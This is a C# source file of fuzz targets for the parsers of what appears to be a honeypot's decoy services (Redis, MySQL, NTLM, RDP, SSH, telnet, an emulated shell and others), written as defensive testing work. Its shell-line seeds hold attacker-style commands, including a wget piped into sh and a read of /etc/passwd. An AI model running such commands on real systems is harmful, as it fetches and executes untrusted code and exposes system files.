using System.Text;
using Whorl.Fingerprints.Wire;
using Whorl.Kernel.Content;
using Whorl.Sources.Decoys.Databases;
using Whorl.Sources.Decoys.Datagrams;
using Whorl.Sources.Decoys.Desktop;
using Whorl.Sources.Decoys.Personas;
using Whorl.Sources.Decoys.Shell;
using Whorl.Sources.Decoys.Ssh;
using Whorl.Sources.Decoys.Text;
using Whorl.Sources.Decoys.Web;

namespace Whorl.Fuzz.Targets;

/// <summary>Targets of Whorl/Sources/Decoys: the readers of what peers say to fake services, and of personas.</summary>
internal static class DecoyFuzzTargets
{
    private static readonly Persona Nobody = new() { Name = "fuzz", Place = new("f", 1, 1) };

    public static IReadOnlyList<FuzzTarget> All { get; } =
    [
        new("persona-file", ReadPersona, static () => ["name: a\nservices:\n  - { service: http, tls: true, pages: [{ path: /, body: x, realm: r }] }\naccounts: [{ user: a, passwords: [b] }]\nfiles: [{ path: /a, content: b }]\n"u8.ToArray()]) { MaxAllocation = 4 * 1024 * 1024 },
        new("redis-command", Redis, static () => ["*2\r\n$3\r\nGET\r\n$1\r\na\r\n"u8.ToArray(), "SET a b\r\n"u8.ToArray()]),
        new("mysql-hello", input => MySqlHello.Read(input) is { } hello ? HashCode.Combine(hello.WantsTls, hello.Plugin.Length > 0, hello.Database.Length > 0, hello.Response.Length) : 0, static () => [[0x08, 0x82, 0x08, 0x00, .. new byte[28], .. "root\0"u8, 3, 1, 2, 3, .. "db\0mysql_native_password\0"u8]]),
        new("postgres-startup", input => PostgresService.Parameters(input).Count, static () => ["user\0a\0database\0b\0\0"u8.ToArray()]),
        new("tds-login", input => TdsLogin.Read(input) is { } login ? HashCode.Combine(login.User.Length, login.Password.Length) : 0, static () => [[.. new byte[40], 94, 0, 2, 0, 98, 0, 2, 0, .. new byte[46], .. "s\0a\0x\0y\0"u8]]),
        new("ntlm-message", NtlmMessage, static () => [[.. "xxNTLMSSP\0"u8, 3, 0, 0, 0, 0, 0, 0, 0, 64, 0, 0, 0, 4, 0, 4, 0, 64, 0, 0, 0, .. new byte[36], .. "abcdefgh"u8]]),
        new("rdp-request", input => HashCode.Combine(RdpService.Read(input)), static () => [[3, 0, 0, 46, 41, 0xE0, 0, 0, 0, 0, 0, .. "Cookie: mstshash=a\r\n"u8, 1, 0, 8, 0, 3, 0, 0, 0]]),
        new("mqtt-connect", input => HashCode.Combine(MqttService.Head(input, out _, out _), MqttConnect.Read(input)?.Level, MqttConnect.Read(input)?.Password?.Length), static () => [[0, 4, .. "MQTT"u8, 5, 0xC6, 0, 60, 0, 0, 1, (byte)'c', 0, 0, 1, (byte)'t', 0, 1, (byte)'m', 0, 1, (byte)'u', 0, 1, (byte)'p']]),
        new("dns-question", input => DnsQuestion.Read(input) is { } question ? HashCode.Combine(question.Type, question.Name.Length, Inside(question.Length, input)) : 0, static () => [[1, 2, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 1, (byte)'a', 0, 0, 1, 0, 1]]),
        new("snmp-request", Snmp, static () => [Convert.FromHexString("302902010104067075626c6963a01c020401020304020100020100300e300c06082b060102010101000500")]),
        new("ssh-auth", input => AuthRequest.Read(input) is { Ok: true } request ? HashCode.Combine(request.Method, request.Secret.Length) : 0, static () => [[50, 0, 0, 0, 1, (byte)'u', 0, 0, 0, 1, (byte)'s', 0, 0, 0, 8, .. "password"u8, 0, 0, 0, 0, 1, (byte)'p']]),
        new("telnet-filter", Telnet, static () => [[255, 251, 1, (byte)'a', 255, 250, 31, 0, 80, 255, 240, 255, 255, 13, 10]]),
        new("shell-line", Shell, static () => ["cd /tmp || cat <<E; wget http://a/b -O- | sh & echo -ne '\\x41\\101' >> .x; $(id) `ls` \"${HOME}\" busybox X 2>&1"u8.ToArray(), "for i in a; do echo $i > /dev/null; done; awk '{print $1}' /etc/passwd | head -n 3 | base64 -d\nE\n"u8.ToArray()]) { MaxAllocation = 64 * 1024 * 1024 },
        new("sign-in-form", input => SignInForm.TryRead(input.Length % 2 == 0 ? "application/json" : null, input, out string? user, out string? password) ? HashCode.Combine(user?.Length, password?.Length) : 0, static () => ["log=a&pwd=b%20c"u8.ToArray(), "{\"user\": \"a\", \"password\" : \"b\"}"u8.ToArray(), "<methodCall><string>a</string><string>b</string>"u8.ToArray()]),
    ];

    private static int ReadPersona(ReadOnlySpan<byte> input)
    {
        List<ContentFault> faults = [];
        Persona? persona = PersonaReader.Read("f", Encoding.Latin1.GetString(input), faults);
        return persona is null == (faults.Count > 0) ? HashCode.Combine(faults.Count, persona?.Services.Count) : throw new InvalidOperationException("a persona with faults, or none without");
    }

    private static int Redis(ReadOnlySpan<byte> input)
    {
        ParseStatus status = new RedisReader().TryParse(input, out int consumed, out IReadOnlyList<byte[]> arguments);
        return HashCode.Combine(status, arguments.Count, Inside(consumed, input));
    }

    private static int NtlmMessage(ReadOnlySpan<byte> input)
    {
        int at = Ntlm.Find(input);
        return at < 0 ? 0 : HashCode.Combine(Ntlm.IsNegotiate(input[at..]), Ntlm.Read(input[at..])?.Response.Length, input.Length >= 6 ? Der.TotalLength(input) : 0);
    }

    private static int Snmp(ReadOnlySpan<byte> input)
    {
        if (SnmpRequest.Read(input) is not { } request)
        {
            return 0;
        }

        return request.NoSuch(input).Length == input.Length ? HashCode.Combine(request.Type, request.Names.Count) : throw new InvalidOperationException("an answer of another length");
    }

    private static int Telnet(ReadOnlySpan<byte> input)
    {
        TelnetFilter filter = new();
        int typed = 0;
        foreach (byte each in input)
        {
            typed += filter.Take(each) is null ? 0 : 1;
        }

        return typed;
    }

    private static int Shell(ReadOnlySpan<byte> input)
    {
        ShellMachine machine = new(Nobody, "root", TimeProvider.System);
        int shape = 0;
        foreach (string line in Encoding.Latin1.GetString(input).Split('\n'))
        {
            shape = HashCode.Combine(shape, machine.Run(line, out bool known).Length, known);
        }

        return HashCode.Combine(shape, machine.HasEnded);
    }

    private static int Inside(int length, ReadOnlySpan<byte> input) =>
        length >= 0 && length <= input.Length ? length : throw new InvalidOperationException("a length beyond the bytes");
}
